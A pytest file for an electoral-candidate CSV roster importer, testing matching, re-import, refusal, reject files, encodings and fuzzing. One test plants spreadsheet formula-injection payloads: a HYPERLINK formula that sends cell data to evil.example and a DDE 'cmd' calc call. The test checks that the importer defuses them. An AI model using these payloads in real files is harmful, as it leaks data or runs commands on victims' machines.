"""Roster import, writing half: matching, re-import, refusal, --skip-bad, encodings, fuzz.

Every person in these tests is invented. Democracy Club files are written from DC's
published column list (deskapp.importing.candidates.DC_REQUIRED_COLUMNS and the optional groups).
"""

from __future__ import annotations

import csv
import io
import os
import stat
import unicodedata
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st
from sqlalchemy import func, select, text

from deskapp.db.desk import Desk
from deskapp.db.tables import AUDIT_EVENT as AUDIT
from deskapp.db.tables import CANDIDACY, ORGANISATION, PERSON
from deskapp.domain.errors import ValidationError
from deskapp.domain.vocabulary import AuditAction
from deskapp.importing.candidates import DC_REQUIRED_COLUMNS
from deskapp.importing.roster import (
    ImportRefused,
    apply_import,
    default_rejects_path,
    import_file,
    plan_import,
    write_rejects,
)
from deskapp.services import people
from tests.cli.cli_desk import init_desk

DATA = Path(__file__).parents[1] / "data"

# DC's core columns, then a selection of the optional groups (person, contact, results).
HEADER = [
    *DC_REQUIRED_COLUMNS,
    "election_current",
    "by_election",
    "organisation_name",
    "elected",
    "email",
    "twitter_username",
    "homepage_url",
    "gss",
    "party_list_position",
    "gender",
    "statement_to_voters",
]

WELSH_IRISH = [
    "Siân ap Rhys",
    "Seán Ó Súilleabháin",
    "Aoife Nic Giolla Phádraig",
    "Dafydd ab Iorwerth",
    "Gwenllian Ffion Dafydd",
    "Ciarán Mac Giolla Bhríde",
    "Nóirín Breathnach",
    "Llŷr Gruffydd-Ŵyn",
]


def row(
    pid: str,
    name: str,
    ballot: str,
    *,
    party: str = "Plaid Cymru - The Party of Wales",
    party_id: str = "PP77",
    post: str = "",
    org_name: str = "",
    elected: str = "",
    email: str = "",
    cancelled: str = "f",
    seats: str = "1",
) -> dict[str, str]:
    parts = ballot.split(".")
    day = parts[-1]
    by = "t" if parts[-2] == "by" else "f"
    election = ".".join([parts[0], *([parts[1]] if parts[0] == "local" else []), day])
    return {
        "person_id": pid,
        "person_name": name,
        "election_id": election,
        "ballot_paper_id": ballot,
        "election_date": day,
        "party_name": party,
        "party_id": party_id,
        "post_label": post,
        "cancelled_poll": cancelled,
        "seats_contested": seats,
        "election_current": "t",
        "by_election": by,
        "organisation_name": org_name,
        "elected": elected,
        "email": email,
    }


def write_dc(
    path: Path,
    rows: Sequence[dict[str, str]],
    *,
    header: Sequence[str] = HEADER,
    encoding: str = "utf-8",
) -> Path:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(header), lineterminator="\r\n", restval="")
    writer.writeheader()
    for r in rows:
        writer.writerow({k: v for k, v in r.items() if k in header})
    path.write_bytes(out.getvalue().encode(encoding))
    return path


def base_rows() -> list[dict[str, str]]:
    return [
        # One person, many ballots: a council ward, the Senedd, and a by-election.
        row("910001", WELSH_IRISH[0], "local.cardiff.pentyrch.2026-05-07", post="Pentyrch",
            org_name="Cardiff Council", email="sian@example.org"),
        row("910001", WELSH_IRISH[0], "senedd.caerdydd-penarth.2026-05-07", seats="6"),
        row("910001", WELSH_IRISH[0], "local.cardiff.radyr.by.2026-07-02", post="Radyr",
            org_name="Cardiff Council"),
        row("910002", WELSH_IRISH[1], "parl.dunmore-and-kells.by.2026-07-02",
            party="Social Democratic and Labour Party", party_id="PP55"),
        row("910003", WELSH_IRISH[2], "local.leeds.headingley.2026-05-07",
            party="Green Party", party_id="PP63", post="Headingley & Hyde Park"),
        row("910004", WELSH_IRISH[3], "local.gwynedd.menai.2026-05-07"),
        row("910005", WELSH_IRISH[4], "local.gwynedd.bangor-dewi.2026-05-07"),
        row("910006", WELSH_IRISH[5], "mayor.greater-manchester-ca.2026-05-07",
            party="Liberal Democrats", party_id="PP90"),
        row("910007", WELSH_IRISH[6], "pcc.south-wales.2026-05-07",
            party="Independent", party_id="ynmp-party:2"),
        row("910008", WELSH_IRISH[7], "local.ynys-mon.aethwy.2026-05-07", seats="3"),
    ]  # fmt: skip


def counts(desk: Desk) -> dict[str, int]:
    with desk.read() as conn:
        return {
            t: int(conn.execute(text(f"SELECT count(*) FROM {t}")).scalar_one())
            for t in (
                "person",
                "candidacy",
                "organisation",
                "audit_event",
                "outbox",
                "field_version",
            )
        }


def all_people(desk: Desk) -> list[dict[str, Any]]:
    with desk.read() as conn:
        return [dict(r) for r in conn.execute(select(PERSON).order_by(PERSON.c.name)).mappings()]


# --------------------------------------------------------------------------- first import


def test_democracy_club_file_many_ballots_by_elections_and_names(
    desk: Desk, tmp_path: Path
) -> None:
    path = write_dc(tmp_path / "candidates.csv", base_rows())
    plan = import_file(desk, path)
    assert plan.ok and plan.summary.written
    assert plan.summary.people.as_dict() == {"new": 8, "updated": 0, "unchanged": 0, "rejected": 0}
    assert plan.summary.candidacies.new == 10

    found = {p["name"]: p for p in all_people(desk)}
    assert set(found) == set(WELSH_IRISH)  # every accent survives exactly
    sian = found[WELSH_IRISH[0]]
    assert sian["dc_person_id"] == "910001" and sian["role"] == "candidate"
    assert sian["email"] == "sian@example.org"
    # The person's own ballot is their latest election: the by-election.
    assert sian["ballot_paper_id"] == "local.cardiff.radyr.by.2026-07-02"
    assert sian["review_date"] is not None
    with desk.read() as conn:
        cands = conn.execute(
            select(CANDIDACY).where(CANDIDACY.c.person_id == sian["id"])
        ).mappings()
        ballots = {c["ballot_paper_id"]: dict(c) for c in cands}
        orgs = {
            r.slug: r.name for r in conn.execute(select(ORGANISATION.c.slug, ORGANISATION.c.name))
        }
    assert set(ballots) == {
        "local.cardiff.pentyrch.2026-05-07",
        "senedd.caerdydd-penarth.2026-05-07",
        "local.cardiff.radyr.by.2026-07-02",
    }
    assert ballots["senedd.caerdydd-penarth.2026-05-07"]["post"] == "Caerdydd Penarth"
    assert orgs["cardiff"] == "Cardiff Council"  # the file's name beats the slug's
    assert {"leeds", "gwynedd", "parl.dunmore-and-kells", "senedd", "south-wales"} <= set(orgs)
    assert len(orgs) == len(set(orgs))


def test_collection_events_one_per_person_naming_the_file_only(desk: Desk, tmp_path: Path) -> None:
    path = write_dc(tmp_path / "may-candidates.csv", base_rows())
    import_file(desk, path)
    with desk.read() as conn:
        events = [
            dict(r)
            for r in conn.execute(
                select(AUDIT).where(
                    AUDIT.c.action == str(AuditAction.COLLECTION), AUDIT.c.entity == "person"
                )
            ).mappings()
        ]
        ids = {r.id for r in conn.execute(select(PERSON.c.id))}
    assert len(events) == 8 and {e["entity_id"] for e in events} == ids
    assert {e["detail"] for e in events} == {"import may-candidates.csv"}
    blob = repr(events)
    assert not any(name in blob for name in WELSH_IRISH)


def test_contact_details_are_masked_and_not_in_the_file(
    desk: Desk, db_path: Path, tmp_path: Path
) -> None:
    path = write_dc(tmp_path / "c.csv", base_rows())
    import_file(desk, path)
    listed = people.list_people(desk)
    assert {p["email"] for p in listed} <= {"", "[masked]"}
    desk.close()
    raw = b"".join(
        p.read_bytes() for p in db_path.parent.iterdir() if p.name.startswith(db_path.name)
    )
    assert b"sian@example.org" not in raw and "Siân".encode() not in raw


def test_dry_run_plan_writes_nothing_and_reports_the_same_counts(
    desk: Desk, tmp_path: Path
) -> None:
    path = write_dc(tmp_path / "c.csv", base_rows())
    before = counts(desk)
    plan = plan_import(desk, path)
    assert counts(desk) == before
    assert not plan.summary.written
    done = import_file(desk, path)
    assert done.summary.people == plan.summary.people
    assert done.summary.candidacies == plan.summary.candidacies
    assert done.summary.organisations == plan.summary.organisations


def test_plan_then_apply_for_the_tui(desk: Desk, tmp_path: Path) -> None:
    path = write_dc(tmp_path / "c.csv", base_rows())
    seen: list[tuple[str, int, int]] = []
    plan = plan_import(desk, path, progress=lambda *a: seen.append(a))
    summary = apply_import(desk, plan, progress=lambda *a: seen.append(a))
    assert summary.written and summary.people.new == 8
    stages = {s for s, _, _ in seen}
    assert stages == {"reading", "matching", "writing"}
    for stage in stages:
        last = [(d, t) for s, d, t in seen if s == stage][-1]
        assert last[0] == last[1]


# --------------------------------------------------------------------------- re-import


def test_reimporting_the_same_file_changes_nothing(desk: Desk, tmp_path: Path) -> None:
    path = write_dc(tmp_path / "c.csv", base_rows())
    import_file(desk, path)
    before = counts(desk)
    again = import_file(desk, path)
    assert again.summary.people.as_dict() == {
        "new": 0,
        "updated": 0,
        "unchanged": 8,
        "rejected": 0,
    }
    assert again.summary.candidacies.unchanged == 10 and again.summary.candidacies.new == 0
    assert again.summary.organisations.new == 0
    assert counts(desk) == before  # not even an audit event


def test_newer_file_updates_in_place(desk: Desk, tmp_path: Path) -> None:
    import_file(desk, write_dc(tmp_path / "v1.csv", base_rows()))
    ids = {p["name"]: p["id"] for p in all_people(desk)}
    rows = base_rows()
    rows[3]["party_name"] = "Sinn Féin"  # a correction
    rows[3]["party_id"] = "PP39"
    rows[4]["elected"] = "t"  # results are in
    rows.append(row("910003", WELSH_IRISH[2], "local.leeds.kirkstall.by.2026-09-10",
                    party="Green Party", party_id="PP63", post="Kirkstall"))  # fmt: skip
    rows.append(row("910009", "Rhiannon Wyn Evans", "local.ynys-mon.aethwy.2026-05-07"))
    rows[0]["email"] = ""  # an empty cell does not erase what the desk holds
    newer = import_file(desk, write_dc(tmp_path / "v2.csv", rows))
    assert newer.summary.people.as_dict() == {
        "new": 1,
        "updated": 2,
        "unchanged": 6,
        "rejected": 0,
    }
    assert newer.summary.candidacies.as_dict() == {
        "new": 2,
        "updated": 2,
        "unchanged": 8,
        "rejected": 0,
    }
    after = {p["name"]: p for p in all_people(desk)}
    assert len(after) == 9
    for name, pid in ids.items():
        assert after[name]["id"] == pid  # updated in place, nobody twice
    assert after[WELSH_IRISH[1]]["party"] == "Sinn Féin"
    assert after[WELSH_IRISH[2]]["post"] == "Kirkstall"  # the latest candidacy leads
    assert after[WELSH_IRISH[0]]["email"] == "sian@example.org"
    with desk.read() as conn:
        elected = conn.execute(
            select(CANDIDACY.c.elected).where(
                CANDIDACY.c.ballot_paper_id == "local.leeds.headingley.2026-05-07"
            )
        ).scalar_one()
        alterations = conn.execute(
            select(AUDIT.c.entity, AUDIT.c.fields, AUDIT.c.detail).where(
                AUDIT.c.action == str(AuditAction.ALTERATION)
            )
        ).all()
    assert elected is True
    assert ("person", "party", "import v2.csv") in alterations


def test_existing_office_holder_keeps_their_role(desk: Desk, tmp_path: Path) -> None:
    import_file(desk, write_dc(tmp_path / "v1.csv", base_rows()))
    by_name = {p["name"]: p["id"] for p in all_people(desk)}
    people.update_person(desk, by_name[WELSH_IRISH[3]], role="councillor")
    people.update_person(desk, by_name[WELSH_IRISH[4]], role="other")
    again = import_file(desk, write_dc(tmp_path / "v1.csv", base_rows()))
    roles = {p["name"]: p["role"] for p in all_people(desk)}
    assert roles[WELSH_IRISH[3]] == "councillor"
    assert roles[WELSH_IRISH[4]] == "candidate"
    assert again.summary.people.updated == 1


def test_generic_csv_matches_by_name_and_organisation(desk: Desk, tmp_path: Path) -> None:
    ro = tmp_path / "ro.csv"
    ro.write_text(
        "Candidate Name,Ward,Description,Council,Poll Date,Telephone,Home Address\r\n"
        "Aoife Nic Giolla Phádraig,Headingley,Green Party,Leeds,07/05/2026,0113 000 0000,"
        '"1 Any Street\nLeeds"\r\n'
        "Tomás Ó Briain,Kirkstall,Independent,Leeds,07/05/2026,,\r\n",
        encoding="utf-8",
    )
    first = import_file(desk, ro)
    assert first.summary.people.new == 2 and first.summary.organisations.new == 1
    # Same file again, with different spacing and case in a name: no one twice.
    ro.write_text(
        ro.read_text(encoding="utf-8").replace("Tomás Ó Briain", "tomás  ó briain"),
        encoding="utf-8",
    )
    again = import_file(desk, ro)
    assert again.summary.people.new == 0 and len(all_people(desk)) == 2
    # Then Democracy Club's file: the same person in the same council takes the DC id.
    dc = import_file(desk, write_dc(tmp_path / "dc.csv", [base_rows()[4]]))
    assert dc.summary.people.as_dict()["new"] == 0 and dc.summary.people.updated == 1
    aoife = next(p for p in all_people(desk) if p["name"] == WELSH_IRISH[2])
    assert aoife["dc_person_id"] == "910003"
    assert aoife["phone"] == "0113 000 0000" and aoife["address"] == "1 Any Street, Leeds"
    assert aoife["ballot_paper_id"] == "local.leeds.headingley.2026-05-07"


def test_spreadsheet_after_democracy_club_adds_no_one_twice(desk: Desk, tmp_path: Path) -> None:
    import_file(desk, write_dc(tmp_path / "dc.csv", base_rows()))
    ro = tmp_path / "ro.csv"
    ro.write_text(
        "Candidate Name,Ward,Council,Telephone\r\n"
        "Aoife Nic Giolla Phádraig,Headingley & Hyde Park,Leeds,0113 000 0000\r\n",
        encoding="utf-8",
    )
    plan = import_file(desk, ro)
    assert plan.summary.people.as_dict() == {
        "new": 0,
        "updated": 1,
        "unchanged": 0,
        "rejected": 0,
    }
    aoife = [p for p in all_people(desk) if p["name"] == WELSH_IRISH[2]]
    assert len(aoife) == 1 and aoife[0]["phone"] == "0113 000 0000"
    assert aoife[0]["dc_person_id"] == "910003"


def test_column_map_for_an_unusual_spreadsheet(desk: Desk) -> None:
    plan = import_file(
        desk,
        DATA / "ro_custom_headers.csv",
        column_map={"Nominee": "name", "Electoral Area": "post", "Standing For": "party",
                    "Authority": "org", "Contact": "phone", "Notes": "ignore"},
    )  # fmt: skip
    assert plan.ok and plan.summary.people.new == 2
    names = {p["name"] for p in all_people(desk)}
    assert names == {"Bethan Haf Morgan", "Niamh Ní Dhuibhir"}


# --------------------------------------------------------------------------- refusal


def test_a_file_with_any_problem_is_refused_whole(desk: Desk) -> None:
    before = counts(desk)
    plan = import_file(desk, DATA / "dc_problems.csv")
    assert not plan.summary.written and not plan.can_apply(skip_bad=False)
    assert counts(desk) == before
    assert len(plan.problems) >= 10
    rows = {p.row for p in plan.problems}
    assert {3, 4, 5} <= rows and all(p.reason for p in plan.problems)
    # Row 10 gives row 2's person_id another name.
    (same_id,) = [p for p in plan.problems if p.row == 10]
    assert same_id.column == "person_id"
    assert same_id.reason == "This person_id is used on row 2 with a different name."
    reasons = " ".join(p.reason for p in plan.problems)
    assert "Eirlys" not in reasons and "example.org" not in reasons
    with pytest.raises(ImportRefused) as caught:
        apply_import(desk, plan)
    assert caught.value.exit_code == 8 and caught.value.problems == plan.problems
    assert counts(desk) == before


def test_skip_bad_imports_good_rows_and_writes_a_private_reject_file(
    desk: Desk, tmp_path: Path
) -> None:
    rows = base_rows()
    rows[1]["person_name"] = ""  # missing name
    rows[4]["election_date"] = "2026-13-40"  # bad date
    path = write_dc(tmp_path / "mixed.csv", rows)
    refused = import_file(desk, path)
    assert not refused.summary.written and counts(desk)["person"] == 0
    plan = import_file(desk, path, skip_bad=True)
    assert plan.summary.written
    assert plan.summary.candidacies.rejected == 2
    assert plan.summary.people.rejected == 1  # Siân still has two good rows
    assert plan.summary.people.new == 7
    rejects = default_rejects_path(path)
    assert rejects.name == "mixed.rejects.csv"
    assert write_rejects(plan, rejects) == 2
    assert stat.S_IMODE(os.stat(rejects).st_mode) == 0o600
    with rejects.open(encoding="utf-8-sig", newline="") as fh:
        got = list(csv.DictReader(fh))
    assert [g["reject_row"] for g in got] == ["3", "6"]
    assert "name is missing" in got[0]["reject_reasons"]
    assert got[0]["reject_columns"] == "person_name"
    assert got[1]["person_name"] == WELSH_IRISH[2]  # the original cells, exactly
    assert got[1]["election_date"] == "2026-13-40"
    assert [f for f in got[0] if not f.startswith("reject_")] == HEADER


def test_reject_file_is_never_replaced_without_force_and_defuses_formulas(
    desk: Desk, tmp_path: Path
) -> None:
    rows = base_rows()
    rows[1]["person_name"] = ""  # missing name
    rows[1]["party_name"] = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    rows[4]["election_date"] = "2026-13-40"
    rows[4]["post_label"] = "Pentyrch;=cmd|' /C calc'!A0"
    path = write_dc(tmp_path / "mixed.csv", rows)
    plan = import_file(desk, path, skip_bad=True)
    rejects = default_rejects_path(path)
    rejects.write_text("an officer's notes\n", encoding="utf-8")
    with pytest.raises(ValidationError) as caught:
        write_rejects(plan, rejects)
    assert "already exists" in str(caught.value) and "--force" in str(caught.value)
    assert rejects.read_text(encoding="utf-8") == "an officer's notes\n"  # untouched
    assert write_rejects(plan, rejects, force=True) == 2
    raw = rejects.read_text(encoding="utf-8-sig")
    assert raw.startswith('"reject_row","reject_columns"')  # every cell quoted
    with rejects.open(encoding="utf-8-sig", newline="") as fh:
        got = list(csv.DictReader(fh))
    assert got[0]["party_name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"x")'
    assert got[1]["post_label"] == "Pentyrch;'=cmd|' /C calc'!A0"


def test_cli_reject_file_needs_force_before_anything_is_imported(
    db_path: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from deskapp.cli import main

    init_desk(db_path, monkeypatch)
    rows = base_rows()
    rows[1]["person_name"] = ""
    path = write_dc(tmp_path / "mixed.csv", rows)
    default_rejects_path(path).write_text("kept\n", encoding="utf-8")
    assert main(["import", "candidates", str(path), "--skip-bad"]) != 0
    assert default_rejects_path(path).read_text(encoding="utf-8") == "kept\n"
    assert main(["import", "candidates", str(path), "--skip-bad", "--force"]) == 0
    assert "reject_row" in default_rejects_path(path).read_text(encoding="utf-8-sig")


def test_a_problem_with_the_file_itself_cannot_be_skipped(desk: Desk, tmp_path: Path) -> None:
    path = write_dc(tmp_path / "odd.csv", base_rows(), header=[*HEADER, "shoe_size"])
    plan = import_file(desk, path, skip_bad=True)
    assert plan.fatal and not plan.summary.written
    assert plan.problems[0].row == 0 and plan.problems[0].column == "shoe_size"
    assert counts(desk)["person"] == 0


def test_broken_quoting_refuses_even_with_skip_bad(desk: Desk, tmp_path: Path) -> None:
    path = write_dc(tmp_path / "q.csv", base_rows())
    data = path.read_bytes().replace(b"Pentyrch,", b'"Pentyrch,', 1)
    path.write_bytes(data)
    plan = import_file(desk, path, skip_bad=True)
    assert plan.fatal and not plan.summary.written
    assert counts(desk)["person"] == 0


def test_bad_phone_and_repeated_ballot_are_problems(desk: Desk, tmp_path: Path) -> None:
    path = tmp_path / "ro.csv"
    path.write_text(
        "Name,Council,Ward,Telephone,Ballot Paper ID\r\n"
        "Iolo Prydderch,Powys,Llanidloes,call me maybe,local.powys.llanidloes.2026-05-07\r\n"
        "Hywel Dafis,Powys,Rhayader,01597 000000,local.powys.rhayader.2026-05-07\r\n"
        "Hywel Dafis,Powys,Rhayader,01597 111111,local.powys.rhayader.2026-05-07\r\n",
        encoding="utf-8",
    )
    plan = import_file(desk, path)
    assert [p.row for p in plan.problems] == [2, 4]
    assert "phone" in plan.problems[0].reason and "call me" not in plan.problems[0].reason
    assert "repeats" in plan.problems[1].reason and plan.problems[1].column == "phone"
    assert "01597" not in plan.problems[1].reason


# --------------------------------------------------------------------------- encodings


def test_utf8_with_bom(desk: Desk, tmp_path: Path) -> None:
    path = write_dc(tmp_path / "bom.csv", base_rows(), encoding="utf-8-sig")
    plan = import_file(desk, path)
    assert plan.ok and plan.parse.encoding == "utf-8-sig"
    assert {p["name"] for p in all_people(desk)} == set(WELSH_IRISH)


def test_windows_1252(desk: Desk, tmp_path: Path) -> None:
    names = ["Siân ap Rhys", "Seán Ó Súilleabháin", "Nóirín Breathnach", "Zoë Ní Bhriain"]
    rows = [row(f"92000{i}", n, f"local.cardiff.ward-{i}.2026-05-07") for i, n in enumerate(names)]
    path = write_dc(tmp_path / "excel.csv", rows, encoding="cp1252")
    plan = import_file(desk, path)
    assert plan.ok and plan.parse.encoding == "cp1252"
    assert {p["name"] for p in all_people(desk)} == set(names)


# --------------------------------------------------------------------------- fuzz


@pytest.fixture(scope="module")
def fuzz_desk(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Desk, Path]]:
    folder = tmp_path_factory.mktemp("fuzz")
    with pytest.MonkeyPatch.context() as mp:  # the autouse isolation is per test
        mp.setenv("DESKAPP_CONFIG", str(folder / "settings.toml"))
        desk, _ = Desk.init(folder / "fuzz.db", "4521", "Sgt Fuzz", "correct horse battery")
        yield desk, folder
        desk.close()


def _clean_file() -> bytes:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=HEADER, lineterminator="\r\n", restval="")
    writer.writeheader()
    for r in base_rows():
        writer.writerow(r)
    return out.getvalue().encode("utf-8")


_mutation = st.one_of(
    st.tuples(st.just("insert"), st.integers(0, 5000), st.sampled_from(
        [b'"', b",", b"\r\n", b"\n", b"\x00", b"\xff", b"\xe2\x82", b";", b'""', b"\xef\xbb\xbf"]
    )),
    st.tuples(st.just("delete"), st.integers(0, 5000), st.integers(1, 40)),
    st.tuples(st.just("truncate"), st.integers(0, 5000), st.just(0)),
    st.tuples(st.just("replace"), st.sampled_from(
        [b"2026-05-07,", b",f,", b"910003", "Siân".encode(), b"local.", b",t,", b"person_id"]
    ), st.sampled_from([b"", b"2026-02-30,", b",maybe,", b"abc", b'"', b"x" * 300])),
)  # fmt: skip


def _mutate(data: bytes, ops: list[tuple[object, object, object]]) -> bytes:
    for op, a, b in ops:
        if op == "insert":
            assert isinstance(a, int) and isinstance(b, bytes)
            i = a % (len(data) + 1)
            data = data[:i] + b + data[i:]
        elif op == "delete":
            assert isinstance(a, int) and isinstance(b, int)
            i = a % (len(data) + 1)
            data = data[:i] + data[i + b :]
        elif op == "truncate":
            assert isinstance(a, int)
            data = data[: a % (len(data) + 1)]
        else:
            assert isinstance(a, bytes) and isinstance(b, bytes)
            data = data.replace(a, b, 1)
    return data


def _table_counts(desk: Desk) -> tuple[int, int, int]:
    with desk.read() as conn:
        return (
            int(conn.execute(select(func.count()).select_from(PERSON)).scalar_one()),
            int(conn.execute(select(func.count()).select_from(CANDIDACY)).scalar_one()),
            int(conn.execute(select(func.count()).select_from(ORGANISATION)).scalar_one()),
        )


@settings(
    max_examples=60,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(ops=st.lists(_mutation, min_size=1, max_size=4), skip_bad=st.booleans())
def test_fuzz_malformed_files_never_crash_nor_write_partially(
    fuzz_desk: tuple[Desk, Path], ops: list[tuple[object, object, object]], skip_bad: bool
) -> None:
    desk, folder = fuzz_desk
    path = folder / "fuzz.csv"
    path.write_bytes(_mutate(_clean_file(), ops))
    before = _table_counts(desk)
    plan = import_file(desk, path, skip_bad=skip_bad)
    after = _table_counts(desk)
    summary = plan.summary
    event("fatal" if plan.fatal else "written" if summary.written else "refused")
    event(f"rejected rows: {min(len(plan.rejected), 3)}")
    if summary.written:
        # Exactly what was reported, nothing more: no partial writes.
        assert after == (
            before[0] + summary.people.new,
            before[1] + summary.candidacies.new,
            before[2] + summary.organisations.new,
        )
        assert skip_bad or plan.ok
    else:
        assert after == before  # refused whole: nothing written
        assert plan.problems or not plan.kept
    # Every reject is explained: a row number (or the file), and a reason.
    for p in plan.problems:
        assert p.row >= 0 and p.reason.strip()
    rejected_rows = {r.row for r in plan.rejected}
    assert rejected_rows == {p.row for p in plan.problems if p.row > 0} or plan.fatal
    for r in plan.rejected:
        assert r.problems
    if plan.rejected and summary.written:
        rejects = folder / "fuzz.rejects.csv"
        assert write_rejects(plan, rejects, force=True) == len(plan.rejected)
        with rejects.open(encoding="utf-8-sig", newline="") as fh:
            got = list(csv.reader(fh))
        assert [int(g[0]) for g in got[1:]] == sorted(rejected_rows)
        assert all(g[2] for g in got[1:])


@pytest.mark.parametrize(
    ("on_desk", "in_file", "same"),
    [
        ("Tomás Ó Briain", "tomás  ó briain", True),  # case and spacing
        ("Tomás Ó Briain", " TOMÁS Ó BRIAIN ", True),
        # Typed or synced decomposed (a letter, then its accent), read composed: one
        # person. The desk's side was compared without composing, and made a second.
        (unicodedata.normalize("NFD", "Tomás Ó Briain"), "Tomás Ó Briain", True),
        ("Tomás Ó Briain", unicodedata.normalize("NFD", "Tomás Ó Briain"), True),
        ("Tomás Ó Briain", "Tomas O Briain", False),  # other letters: someone else
    ],
)
def test_names_match_by_one_rule_for_the_file_and_the_desk(
    desk: Desk, tmp_path: Path, on_desk: str, in_file: str, same: bool
) -> None:
    """A row without an id is matched to the person of the same name and council on
    the desk by one rule for both sides (candidates.name_key)."""
    ro = tmp_path / "ro.csv"
    ro.write_text("Candidate Name,Ward,Council\r\nTomás Ó Briain,Kirkstall,Leeds\r\n", "utf-8")
    assert import_file(desk, ro).summary.people.new == 1
    (held,) = all_people(desk)
    with desk.write() as tx:
        tx.update("person", held["id"], {"name": on_desk})
    ro.write_text(f"Candidate Name,Ward,Council\r\n{in_file},Kirkstall,Leeds\r\n", "utf-8")
    plan = import_file(desk, ro)
    assert plan.summary.people.new == (0 if same else 1)
    assert len(all_people(desk)) == (1 if same else 2)
